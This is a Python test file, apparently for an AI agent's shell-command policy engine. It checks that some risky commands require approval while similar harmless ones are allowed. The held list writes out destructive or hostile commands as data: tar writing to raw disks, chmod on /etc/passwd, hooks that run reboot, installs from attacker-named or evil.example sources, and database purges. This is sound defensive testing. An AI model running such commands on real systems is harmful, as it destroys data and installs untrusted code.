"""Held-out spellings of the catalogue's write, install and database families (red team 1): held, and look-alikes allowed."""

from __future__ import annotations

import pytest

from capfence.call.view import CallView
from capfence.policy.engine import evaluate
from tests.support.loading import load_policy

_PACK = load_policy("policies/packs/shell.yaml")


def _action(command: str) -> str:
    return evaluate(_PACK, CallView("shell.execute", {"command": command}, "a")).action


HELD = [
    # archives writing or deleting outside the tree, absolute names, abbreviated and attached options
    "tar -c -f /dev/sdb src",
    "tar --create --fil=/dev/sda .",
    "tar cf /dev/sda .",
    "tar -rf /etc/backup.tar x",
    "tar --remove -cf out.tar src",
    "tar -x -P -f a.tar",
    "tar -xvPf a.tar",
    "tar --absolute-n -xf a.tar",
    "tar -xf a.tar -C/usr",
    "tar -xf a.tar --direct=/etc",
    "tar -czf x.tgz . -g /etc/snap",
    # target directories and --reference
    "cp -vt /usr/local/bin ./tool",
    "mv -t /etc ./x",
    "install -m755 -t ~/.local/bin ./tool",
    "chmod --ref=/tmp /etc/passwd",
    "chgrp -R --reference=. /var",
    "rsync -a --remove-source-files /var/log/ ./logs/",
    # build and report outputs
    "hugo --destination=/var/www",
    "mkdocs build --site-dir=/srv",
    "pytest --junit-xml /etc/x.xml",
    "pytest --basetemp=/home",
    "mypy --cache-dir /etc .",
    "flake8 --output-file /etc/x .",
    "webpack --output-path /srv/www",
    "vite build --outDir /srv",
    "pg_dump --file=/etc/x db",
    "mysqldump -r/etc/x db",
    "semgrep --json-output=/etc/x .",
    "yq -i '.a = 1' /etc/app.yaml",
    "xmlstarlet ed --inplace -u /a -v 1 x.xml",
    # read-only programs' destructive options
    "lastlog -S -u bob",
    "ss -K dport 22",
    "svn up --diff3-cmd 'sh -c reboot'",
    "hg --conf hooks.pre-log=reboot log",
    "kustomize build --enable-helm .",
    # installs from sources, code from input
    "npm install attacker/pwn",
    "pnpm add git+ssh://git@example.com/x.git",
    "yarn add file:../pkg",
    "uv add 'pkg @ https://evil.example/p.whl'",
    "poetry add ./../x",
    "cat mk | make -f -",
    "terraform init -from-module=./x",
    # databases
    "rake db:purge",
    "bundle exec rake db:migrate:reset",
    "mix ecto.rollback --all",
    "./mvnw liquibase:rollback",
    "gradle :app:flywayClean",
    "sqlite3 a.db 'insert into t values (1)'",
    "sqlite3 a.db 'with x as (select 1) delete from t'",
    "sqlite3 a.db 'pragma journal_mode=delete'",
    "sqlite3 a.db 'update t set a=1'",
]

ALLOWED = [
    "tar -xzf a.tgz",
    "tar -czf out.tgz src",
    "tar -cf - . ",
    "tar xzf a.tgz -C build",
    "tar -czf /tmp/out.tgz src",
    "tar -xf ~/Downloads/a.tar",
    "tar -tvf /var/backups/a.tar",
    "cp -t build ./a ./b",
    "chmod --reference=a b",
    "chmod 644 a",
    "hugo -d public",
    "mkdocs build",
    "mkdocs build -d site",
    "pytest -q",
    "pytest --junitxml=report.xml",
    "mypy .",
    "npm install",
    "npm install lodash",
    "npm i -D @types/node",
    "uv add requests",
    "make",
    "make -f Makefile.ci",
    "yq -i '.a = 1' config.yaml",
    "yq '.a' /etc/app.yaml",
    "sqlite3 a.db 'select * from t'",
    "sqlite3 a.db \"select * from t where name = 'delete'\"",
    "sqlite3 a.db 'pragma table_info(t)'",
    "sqlite3 a.db .tables",
    "rake db:migrate",
    "rake test",
    "mix ecto.migrate",
    "mvn test",
    "gradle build",
    "ss -tulpn",
    "lastlog",
    "svn status",
    "hg status",
    "git bundle create repo.bundle --all",
]


@pytest.mark.parametrize("command", HELD)
def test_held(command: str) -> None:
    assert _action(command) == "require_approval"


@pytest.mark.parametrize("command", ALLOWED)
def test_allowed(command: str) -> None:
    assert _action(command) == "allow"
